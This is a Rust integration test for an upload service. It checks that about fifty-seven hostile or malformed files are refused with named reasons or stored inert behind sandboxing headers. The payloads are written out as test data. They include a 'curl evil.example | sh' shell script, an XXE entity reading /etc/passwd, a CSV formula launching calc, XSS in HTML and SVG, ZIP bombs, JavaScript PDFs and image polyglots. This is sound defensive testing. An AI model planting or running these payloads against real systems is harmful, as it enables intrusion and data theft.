//! Forty hostile files: each is refused with its own word, or lies there inert.

use super::{document_rows, lying, refusal};
use http::StatusCode;
use std::collections::BTreeMap;
use tests::cast::Cast;
use tests::files::{jpeg, pdf, png};
use tests::{bars, both_databases};

/// The file for testing scanners, put together so that none takes our source for it.
fn eicar() -> Vec<u8> {
    let parts = [
        "X5O!P%@AP[4\\PZX54(P^)7CC)7}$EICAR",
        "-STANDARD-ANTIVIRUS-",
        "TEST-FILE!$H+H*",
    ];
    parts.concat().into_bytes()
}

/// A ZIP of one entry that says it unpacks to so many bytes.
fn zip(name: &str, flags: u8, unpacked: u32) -> Vec<u8> {
    let length = u16::try_from(name.len())
        .expect("a short name")
        .to_le_bytes();
    let data = [0xED, 0xC1, 1, 1, 0, 0, 0, 0x80, 0x90];
    let common = [
        &[20, 0, flags, 0, 8, 0, 0, 0, 0, 0, 1, 2, 3, 4, 9, 0, 0, 0][..],
        &unpacked.to_le_bytes(),
        &length,
        &[0, 0],
    ]
    .concat();
    let local = [&b"PK\x03\x04"[..], &common, name.as_bytes(), &data].concat();
    let central = [&b"PK\x01\x02\x14\0"[..], &common, &[0; 14], name.as_bytes()].concat();
    let (at, size) = (u32::try_from(local.len()), u32::try_from(central.len()));
    let (at, size) = (at.expect("short"), size.expect("short"));
    let end = [
        &b"PK\x05\x06\0\0\0\0\x01\0\x01\0"[..],
        &size.to_le_bytes(),
        &at.to_le_bytes(),
        &[0, 0],
    ]
    .concat();
    [local, central, end].concat()
}

fn joined(parts: &[&[u8]]) -> Vec<u8> {
    parts.concat()
}

/// Name, content, and the word of its refusal; `inert` where it is taken.
fn hostile() -> Vec<(&'static str, Vec<u8>, &'static str)> {
    let (good, picture, photo) = (pdf("good"), png(40, 30), jpeg(40, 30));
    let bomb = zip("word/document.xml", 0, u32::MAX);
    let html = b"<html><body><script>alert(document.cookie)</script></body></html>";
    let svg = b"<svg xmlns=\"http://www.w3.org/2000/svg\" onload=\"alert(1)\"/>";
    let behind = joined(&[&good, &zip("a.txt", 0, 9)]);
    let script = pdf("x) /OpenAction << /S /JavaScript /JS (app.alert");
    let script = String::from_utf8_lossy(&script).replace("/Title (x ", "/Title (x) ");
    vec![
        ("空.pdf", Vec::new(), "empty"),
        ("svg.png", svg.to_vec(), "web_page"),
        ("svg.pdf", joined(&[b"\xEF\xBB\xBF<?xml version=\"1.0\"?>", svg]), "web_page"),
        ("page.pdf", html.to_vec(), "web_page"),
        ("page.jpg", joined(&[b"\n\n   ", html]), "web_page"),
        ("xxe.pdf", b"<?xml version=\"1.0\"?><!DOCTYPE a [<!ENTITY b SYSTEM \"file:///etc/passwd\">]><a>&b;</a>".to_vec(), "web_page"),
        ("eicar.pdf", eicar(), "malware"),
        ("eicar.com", eicar(), "malware"),
        ("eicar-in.pdf", joined(&[&good, &[b' '; 9000], &eicar(), b"\n%%EOF"]), "malware"),
        ("eicar.png", joined(&[&picture[..picture.len() - 12], &eicar(), &picture[picture.len() - 12..]]), "malware"),
        ("locked.zip", zip("秘密.pdf", 1, 9), "locked_archive"),
        ("plain.zip", zip("a.pdf", 0, 9), "archive"),
        ("bomb.docx", bomb.clone(), "office"),
        ("bomb.pdf", bomb, "office"),
        ("macro.xlsm", zip("xl/vbaProject.bin", 0, 9), "office"),
        ("票.ofd", zip("OFD.xml", 0, 9), "office"),
        ("old.doc", b"\xD0\xCF\x11\xE0\xA1\xB1\x1A\xE1\0\0".to_vec(), "office"),
        ("text.rtf", b"{\\rtf1\\ansi{\\object\\objemb}}".to_vec(), "office"),
        ("a.rar", b"Rar!\x1A\x07\x01\0".to_vec(), "archive"),
        ("a.7z", b"7z\xBC\xAF\x27\x1C\0\x04".to_vec(), "archive"),
        ("bomb.gz", b"\x1F\x8B\x08\0\0\0\0\0\0\x03".to_vec(), "archive"),
        ("setup.pdf.exe", b"MZ\x90\0\x03".to_vec(), "program"),
        ("elf.pdf", b"\x7FELF\x02\x01\x01".to_vec(), "program"),
        ("run.sh", b"#!/bin/sh\ncurl evil.example | sh\n".to_vec(), "program"),
        ("link.lnk", b"L\0\0\0\x01\x14\x02\0\0\0\0\0".to_vec(), "program"),
        ("gifar.gif", b"GIF89a<script>alert(1)</script>".to_vec(), "other_picture"),
        ("photo.webp", b"RIFF\x10\0\0\0WEBPVP8 ".to_vec(), "other_picture"),
        ("photo.heic", b"\0\0\0\x18ftypheic\0\0\0\0".to_vec(), "other_picture"),
        ("data.csv", b"=cmd|'/c calc'!A0,1\n".to_vec(), "other_type"),
        ("noise.pdf", vec![0x5A; 5000], "other_type"),
        ("pdf-html.pdf", joined(&[b"%PDF-1.4\n", html, &good]), "mixed"),
        ("html-pdf.pdf", joined(&[&[b'x'; 300], &good]), "mixed"),
        ("pdf-zip.pdf", behind, "mixed"),
        ("png-zip.png", joined(&[&picture, &zip("evil.jar", 0, 9)]), "mixed"),
        ("jpeg-zip.jpg", joined(&[&photo, &zip("evil.jar", 0, 9)]), "mixed"),
        ("jpeg-rar.jpg", joined(&[&photo, b"Rar!\x1A\x07\x01\0"]), "mixed"),
        ("jpeg-html.jpg", joined(&[&photo, html]), "mixed"),
        ("png-tail.png", joined(&[&picture, b"anything"]), "mixed"),
        ("png-pdf.png", joined(&[&picture[..33], b"\0\0\0\x08tEXt%PDF-1.4\0\0\0\0", &picture[33..]]), "mixed"),
        ("huge.png", png(60_000, 60_000), "dimensions"),
        ("huge.jpg", jpeg(60_000, 60_000), "dimensions"),
        ("wide.png", png(u32::MAX, 1), "dimensions"),
        ("nothing.png", png(0, 0), "broken"),
        ("cut.png", picture[..picture.len() - 5].to_vec(), "broken"),
        ("cut.jpg", photo[..photo.len() - 2].to_vec(), "broken"),
        ("cut.pdf", good[..good.len() - 8].to_vec(), "broken"),
        ("length.png", joined(&[&picture[..33], b"\xFF\xFF\xFF\xFFIDAT"]), "broken"),
        ("locked.pdf", String::from_utf8_lossy(&good).replace("/Root", "/Encrypt 9 0 R /Root").into_bytes(), "locked"),
        ("script.pdf", script.into_bytes(), "active"),
        ("launch.pdf", String::from_utf8_lossy(&good).replace("/Title", "/AA << /S /Launch >> /Title").into_bytes(), "active"),
        ("wrong.png", good.clone(), "mismatch"),
        ("wrong.pdf", picture.clone(), "mismatch"),
        ("wrong.jpeg", picture.clone(), "mismatch"),
        ("html.html", good.clone(), "inert"),
        ("svg.svg", picture, "inert"),
        ("php.php", photo.clone(), "inert"),
        ("polyglot.js", joined(&[&photo[..2], &[0xFF, 0xFE, 0, 18], b"*/=alert(1);/*xx", &photo[2..]]), "inert"),
    ]
}

both_databases! {
    async fn bar_w5_files(app: TestApp) {
        let app = app.with_catalogue().await;
        let cast = Cast::on(&app).await;
        let (firm, asset) = (cast.role("firm"), &cast.ids.asset);
        let lies = lying(app.around_documents());
        let rows = document_rows(&app).await.len();
        let (mut words, mut inert) = (BTreeMap::<_, usize>::new(), 0);
        let all = hostile();
        for (name, file, word) in &all {
            let page = firm.upload(asset, name, file).await;
            if *word == "inert" {
                assert_eq!(page.status, StatusCode::CREATED, "{name}: {}", page.text);
                inert += 1;
                let told: serde_json::Value = serde_json::from_str(&page.text).expect("an answer");
                let id = told["id"].as_str().expect("an id");
                let got = firm.get(&app::routes::document(id)).await;
                let header = |name: &str| got.headers[name].to_str().expect("text").to_owned();
                assert!(header("content-disposition").starts_with("attachment; "), "{name}");
                assert!(header("content-security-policy").starts_with("sandbox; "), "{name}");
                assert_eq!(header("x-content-type-options"), "nosniff", "{name}");
                let kind = header("content-type");
                assert!(["application/pdf", "image/png", "image/jpeg"].contains(&&*kind), "{name}: {kind}");
                continue;
            }
            assert_eq!(page.status, StatusCode::UNPROCESSABLE_ENTITY, "{name}: {}", page.text);
            assert_eq!(refusal(&page.text), *word, "{name}");
            *words.entry(*word).or_default() += 1;
        }
        assert_eq!(document_rows(&app).await.len(), rows + inert);
        let now = lying(app.around_documents());
        assert_eq!(now.len(), lies.len() + inert, "what is refused leaves nothing");
        assert!(now.iter().all(|path| path.starts_with(app.documents())));
        let refused = all.len() - inert;
        assert!(all.len() >= 40 && words.len() >= 14, "{} files, {} words", all.len(), words.len());
        bars::report("W5", &format!("{} hostile files: {refused} refused in {} different words, {inert} inert, nothing left behind", all.len(), words.len()));
    }
}
